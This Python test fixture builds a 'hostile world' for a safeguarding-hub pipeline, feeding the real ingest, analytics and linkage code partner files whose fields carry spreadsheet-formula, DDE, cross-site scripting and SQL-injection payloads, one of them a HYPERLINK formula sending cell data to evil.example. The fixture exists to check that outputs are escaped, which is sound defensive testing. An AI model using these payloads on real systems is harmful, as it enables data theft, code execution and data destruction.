"""A small hostile MASH: partner deliveries whose every free field is an attack, run through the real code.

:func:`build_hostile_world` ingests CSV, JSON Lines and xlsx deliveries (from test partners whose
agency names are attacks too) into a real warehouse file, writes the ingest report, links the
mentions, runs the analytics (addresses, households, family graph, rules, RAG, alert queue, alert
pages with their plotly figures), writes the evaluation CSVs and runs ``link_csv``. The outputs
are what an analyst would open; the tests read them back.
"""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path

import pandas as pd
import xlsxwriter

from analytics import run_all
from analytics.evaluate import write_evaluation
from mash.ingest import ingest_partner, load_configs, reconciliation_problems
from mash.ingest.report import write_ingest_report
from mash.settings import Paths
from mash.warehouse import connect
from matching.api import link_csv
from tests.conftest import FIXTURE_PARTNERS

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "data_samples" / "rules.toml"
RAG = ROOT / "data_samples" / "rag.toml"
NOW = datetime(2025, 6, 1, 10, 0)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
CLOSE = "</script><script>alert(2)</script>"
TEXTAREA = "</textarea><svg onload=alert(3)>"
SQLI = "'; DROP TABLE notifications; --"
AGENCY = {  # test partners' agency names: config text reaches the pages too
    "tpolice": '=HYPERLINK("http://evil.example","Police") <b onmouseover=alert(4)>Police</b>',
    "thealth": 'Health "><img src=x onerror=alert(5)>',
    "tschools": "Schools </script><script>alert(6)</script>",
    "thousing": "@SUM(1+1) Housing",
}
# two children, each named by three agencies within 90 days at low severity: a low-level repeat each
CHILDREN = [
    {"first": HYPERLINK, "surname": SCRIPT, "dob": (2015, 4, 3), "postcode": "AB1 2CD"},
    {"first": "@SUM(1+1)", "surname": IMG, "dob": (2016, 8, 7), "postcode": "CD3 4EF"},
]
FREE_TEXT = [CLOSE, TEXTAREA, DDE, "-2+3", "\t=1+1", SQLI, "\u202eevil\u202c " + SCRIPT]


@dataclass
class World:
    root: Path
    paths: Paths
    out: Path
    warehouse: Path
    results: dict


def _configs(root: Path) -> dict:
    folder = root / "partners"
    folder.mkdir(parents=True)
    for toml in sorted(FIXTURE_PARTNERS.glob("*.toml")):
        text = toml.read_text(encoding="utf-8")
        partner = toml.stem
        lines = [f"agency = {json.dumps(AGENCY[partner])}" if line.startswith("agency =") else line
                 for line in text.splitlines()]
        (folder / toml.name).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return load_configs(folder)


def _police(children: list[dict]) -> str:
    buf = io.StringIO(newline="")
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["Ref", "Date", "Category", "Risk", "Role", "Forename", "Surname", "DOB", "Postcode", "Summary"])
    for i, c in enumerate(children):
        y, m, d = c["dob"]
        w.writerow([f"-{i}+3 {SCRIPT}", "01/02/2025", "DA", "Standard", "Child Present", c["first"], c["surname"],
                    f"{d:02d}/{m:02d}/{y}", c["postcode"], FREE_TEXT[i]])
    # rows that are rejected: their raw text lands in rejects.csv
    w.writerow([DDE, "31/02/2025", "DA", "Standard", "Victim", HYPERLINK, SCRIPT, "", "", SQLI])
    w.writerow(["=1+1", "01/02/2025", "=cmd|' /C calc'!A0", "Standard", "Victim", "@x", IMG, "", "", CLOSE])
    return buf.getvalue()


def _health(children: list[dict]) -> str:
    lines = []
    for i, c in enumerate(children):
        y, m, d = c["dob"]
        lines.append(json.dumps({"id": f"=1+{i}", "date": "2025-02-15", "concern": "SH",
                                 "patient": {"given": c["first"], "family": c["surname"],
                                             "dob": f"{y}-{m:02d}-{d:02d}", "nhs": f"<b>{i}</b>"}}))
    lines.append('{"id": "' + SQLI.replace('"', '\\"') + '", "date": "2025-02-15", "concern": "' + IMG.replace(
        '"', '\\"') + '"}')
    return "\n".join(lines) + "\n"


def _schools(children: list[dict]) -> bytes:
    buf = io.BytesIO()
    wb = xlsxwriter.Workbook(buf, {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False})
    ws = wb.add_worksheet("Referrals")
    ws.write_string(0, 0, SCRIPT)
    for c, h in enumerate(["UPN", "Forename", "Surname", "DOB", "Date", "Concern", "Attendance"]):
        ws.write_string(1, c, h)
    for i, ch in enumerate(children):
        y, m, d = ch["dob"]
        ws.write_row(2 + i, 0, [f"=UPN{i}", ch["first"], ch["surname"], f"{d:02d}/{m:02d}/{y}", "01/03/2025",
                                "ATT", 80 - i])
    wb.close()
    return buf.getvalue()


def _mention_person(con) -> pd.DataFrame:
    """One person per (name, date of birth): this world is about outputs, not about linkage."""
    m = con.execute("""
        SELECT mention_id, upper(trim(coalesce(first_name, ''))) || '|' || upper(trim(coalesce(surname, '')))
               || '|' || coalesce(CAST(dob AS VARCHAR), mention_id) AS k
        FROM person_mentions ORDER BY mention_id
    """).df()
    ids = {k: f"P{i}" for i, k in enumerate(sorted(m["k"].unique()))}
    return pd.DataFrame({"mention_id": m["mention_id"], "person_id": m["k"].map(ids), "link_probability": 0.97})


def build_hostile_world(root: Path) -> World:
    paths = Paths.from_env(root / "hub")
    configs = _configs(root)
    files = {
        "tpolice": ('=HYPERLINK(1) <img src=x onerror=alert(7)>.csv', _police(CHILDREN).encode()),
        "thealth": ("'; DROP TABLE deliveries; --.jsonl", _health(CHILDREN).encode()),
        "tschools": ("\"><svg onload=alert(8)> \u202egpj.xlsx", _schools(CHILDREN)),
    }
    con = connect(paths.warehouse)
    try:
        for partner, (name, data) in files.items():
            folder = paths.landing / partner
            folder.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(data)
            ingest_partner(con, configs[partner], paths.landing, paths.raw_store)
        assert reconciliation_problems(con).empty
        out = paths.outputs
        results = {"ingest": write_ingest_report(con, out / "ingest")}
        results["analytics"] = run_all(con, _mention_person(con), RULES, RAG, out / "analytics", now=NOW)
        hostile = pd.DataFrame({"pattern_id": [HYPERLINK, DDE], "pattern_type": [SCRIPT, "@SUM(1)"],
                                "alert_id": ["-1+1", IMG], "note": ["\t=1", "\r=1"]})
        results["evaluation"] = write_evaluation(
            {"by_pattern": hostile, "missed_patterns": hostile, "unmatched_alerts": hostile}, out / "evaluation")
    finally:
        con.close()
    people = pd.DataFrame({"record_id": [HYPERLINK, DDE, "@r3", "-4"], "first_name": ["Ann", "Ann", "Bob", "Bob"],
                           "surname": [SCRIPT, SCRIPT, "=1+1", "=1+1"],
                           "dob": ["2015-04-03", "2015-04-03", "2016-08-07", "2016-08-07"]})
    people_csv = root / "people.csv"
    people.to_csv(people_csv, index=False)  # the input a user hands to `mash link`
    results["link"] = link_csv(people_csv, out / "matching" / "persons.csv")
    return World(root=root, paths=paths, out=out, warehouse=paths.warehouse, results=results)
